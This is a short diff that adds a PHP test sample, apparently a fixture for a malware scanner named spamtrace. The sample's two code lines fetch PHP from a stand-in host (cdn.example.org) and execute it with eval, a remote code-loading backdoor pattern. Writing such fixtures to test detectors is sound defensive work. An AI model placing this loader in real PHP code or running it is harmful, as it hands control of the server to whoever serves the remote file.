@@ -1,0 +1,4 @@
+<?php
+// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
+$u = 'http://cdn.example.org/l.php';
+eval('?>' . file_get_contents($u));
